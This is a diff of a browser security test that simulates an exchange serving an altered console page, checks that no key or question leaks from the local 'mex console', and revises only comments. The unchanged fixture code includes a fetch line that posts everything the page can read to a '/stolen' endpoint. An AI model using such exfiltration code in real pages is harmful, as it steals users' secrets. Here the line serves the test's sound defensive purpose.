@@ -1,6 +1,6 @@
 /**
- * An exchange that serves an altered copy of the console, which posts everything it can reach. A party that uses `mex console`
- * in the same browser must lose neither a key nor a question.
+ * An exchange serves an altered copy of the console that sends everything it can read to the exchange. A party that
+ * uses `mex console` in the same browser must not lose a key or a question to it.
  */
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -11,10 +11,13 @@ import { afterAll, beforeAll, expect, it } from 'vitest';
 
 let c: TestConsole;
 let thief: Server;
-/** Everything that the exchange's altered page sent home, and every header that the browser sent there. */
+/** The request bodies that the altered page sent home, and the headers that the browser added. */
 let stolen = '';
 
-/** The altered page: it reads what it can, asks the loopback console in every way a page has, and posts all of it home. */
+/**
+ * The altered page. It reads all that it can, calls the loopback console in every way a page can, and posts the results
+ * home.
+ */
 function alteredPage(target: string): string {
   return `<!doctype html><title>Measurement Exchange</title><script type="module">
     const home = (what) => fetch('/stolen', { method: 'POST', body: String(what) });
@@ -70,7 +73,7 @@ it.skipIf(lacksChromium)('learns no key and no question, and does not reach mex 
   const measurement = await createMeasurement(c.exchange as never, acme, [streamly]);
   const { page, context } = await c.open('acme');
   const target = new URL(page.url()).origin;
-  // The party's page shows the measurement, so there is something to learn.
+  // The party's page shows the measurement, so the altered page has something to steal.
   await page.goto(`${target}/measurements`);
   await page.locator('#main').waitFor();
   const heard: string[] = [];
@@ -96,11 +99,11 @@ it.skipIf(lacksChromium)('learns no key and no question, and does not reach mex 
   expect(secrets.length).toBeGreaterThan(4);
   for (const secret of secrets) expect(stolen).not.toContain(secret);
   expect(stolen).not.toContain(measurement.name);
-  // No answer of the console was readable, and no request with its cookie was answered.
+  // The altered page could read no response of the console, and the console served no request with its cookie.
   expect(stolen).not.toMatch(/measurementConsumers|mex console"|\[200,/);
   expect(stolen).toContain('GET cors /console.json failed');
   expect(stolen).toMatch(/popup failed/);
-  // The party's own page asked nobody but mex console.
+  // The party's own page sent requests only to mex console.
   await page.reload();
   await page.locator('.app').waitFor();
   expect(new Set(heard)).toEqual(new Set([target]));
